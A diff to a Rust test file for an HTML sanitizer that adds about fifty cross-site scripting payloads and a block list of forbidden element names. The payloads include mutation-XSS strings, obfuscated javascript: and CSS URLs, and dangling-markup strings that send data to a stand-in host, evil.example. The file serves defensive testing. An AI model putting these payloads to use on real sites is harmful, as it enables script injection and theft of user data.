@@ -73,6 +73,60 @@ const ATTACKS: &[&str] = &[
     "<a href=https://x.example onclick=alert(1) ping=https://evil.example target=_top>x</a>",
     "<dialog open>x</dialog><details ontoggle=alert(1) open>x</details>",
     "\u{feff}<\u{0}script>alert(1)</script>",
+    // One tree when it is read, another one when it is read again.
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
+    "<svg><title><style><img title=\"</style></title><img src=x onerror=alert(1)>\">",
+    "<math><annotation-xml encoding=\"text/html\"><style></annotation-xml><img src=x onerror=x>",
+    "<noscript><style></noscript><img src=x onerror=alert(1)>",
+    "<option><style></option></select><img src=x onerror=alert(1)></style>",
+    "<div><!--</div><img src=x onerror=alert(1)>--!><img src=y onerror=alert(2)>",
+    "<!--[if mso]><script>alert(1)</script><![endif]--><![if !mso]><svg onload=x><![endif]>",
+    // Drawings.
+    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
+    "<svg><image href=\"https://evil.example/x\"/><foreignObject><iframe src=x></svg>",
+    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
+    "<math href=\"javascript:alert(1)\">x</math>",
+    // Styles that fetch, run, or cover the page.
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>@\\69mport url(//evil.example/x)</style>",
+    "<div style=\"@import url(https://evil.example/x)\">x</div>",
+    "<div style=\"background:\\75rl(https://evil.example/x)\">x</div>",
+    "<div style=\"background:image-set('https://evil.example/x' 1x)\">x</div>",
+    "<div style=\"background:-webkit-image-set(url(https://evil.example/x) 1x)\">x</div>",
+    "<div style=\"color:var(--x,url(https://evil.example/x))\">x</div>",
+    "<div style=\"content:url(https://evil.example/x);cursor:url(//evil.example/c),auto\">x</div>",
+    "<div style=\"filter:url(https://evil.example/x#f);mask:url(#m)\">x</div>",
+    "<div style=\"behavior:url(#default#time2)\">x</div>",
+    "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
+    "<div style=\"p\\6fsition:fixed;top:0\">x</div>",
+    "<td style=\"background:url('https://evil.example/x')\" background=\"//evil.example/y\">x",
+    // Ways to other places.
+    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>alert(1)</script>\">",
+    "<meta http-equiv=Set-Cookie content=\"tideover=x\"><meta charset=utf-7>+ADw-script+AD4-",
+    "<base target=_top href=//evil.example><a href=x>x</a>",
+    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
+    "<a href=\"java&Tab;script&#58;alert(1)\">x</a>",
+    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
+    "<a href=\"feed:javascript:alert(1)\">x</a><a href=\"view-source:javascript:x\">y</a>",
+    "<a href=\"blob:https://x.example/1\">x</a><a href=\"file:///etc/passwd\">y</a>",
+    "<a href=\"ms-word:ofe|u|https://evil.example/x.docx\">x</a>",
+    "<a href=\"vbscript&#x3a;msgbox(1)\">x</a>",
+    "<form><input type=submit formaction=javascript:alert(1)></form><form action=/logout>",
+    "<button form=x formaction=https://evil.example>x</button>",
+    // Pictures that are none, or leak.
+    "<img src=\"cid:x\\\" onerror=alert(1)\"><img src=\"cid:\"><img src=\"CID:&#x22;onload=x\">",
+    "<img lowsrc=//evil.example/a dynsrc=//evil.example/b longdesc=//evil.example/c>",
+    "<image src=//evil.example/a><bgsound src=//evil.example/b><layer src=//evil.example/c>",
+    "<img src='https://evil.example/?x=",
+    "<applet code=x><param name=src value=//evil.example></applet><frameset><frame src=x>",
+    "<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>",
+    "<link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=//evil.example/x>",
+    "<video><source onerror=alert(1)><track src=//evil.example></video>",
+    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
 ];
 
 /// Attributes of the result, read back with a parser of our own, not with the one under test.
@@ -83,6 +137,46 @@ fn tags(html: &str) -> Vec<String> {
         .collect()
 }
 
+/// None of these is left.
+const ELEMENTS: &[&str] = &[
+    "script",
+    "style",
+    "svg",
+    "math",
+    "iframe",
+    "object",
+    "embed",
+    "link",
+    "meta",
+    "base",
+    "form",
+    "input",
+    "button",
+    "video",
+    "audio",
+    "template",
+    "textarea",
+    "select",
+    "body",
+    "source",
+    "dialog",
+    "xmp",
+    "noscript",
+    "frameset",
+    "frame",
+    "applet",
+    "param",
+    "bgsound",
+    "layer",
+    "image",
+    "portal",
+    "fencedframe",
+    "track",
+    "marquee",
+    "keygen",
+    "option",
+];
+
 #[test]
 fn attacks_leave_nothing_behind() {
     for attack in ATTACKS {
@@ -92,12 +186,8 @@ fn attacks_leave_nothing_behind() {
                 .split([' ', '/'])
                 .find(|part| !part.is_empty())
                 .unwrap_or_default();
-            for element in [
-                "script", "style", "svg", "math", "iframe", "object", "embed", "link", "meta",
-                "base", "form", "input", "button", "video", "audio", "template", "textarea",
-                "select", "body", "source", "dialog", "xmp", "noscript",
-            ] {
-                assert_ne!(name, element, "{attack} → {html}");
+            for element in ELEMENTS {
+                assert_ne!(name, *element, "{attack} → {html}");
             }
             for attribute in [
                 " on",
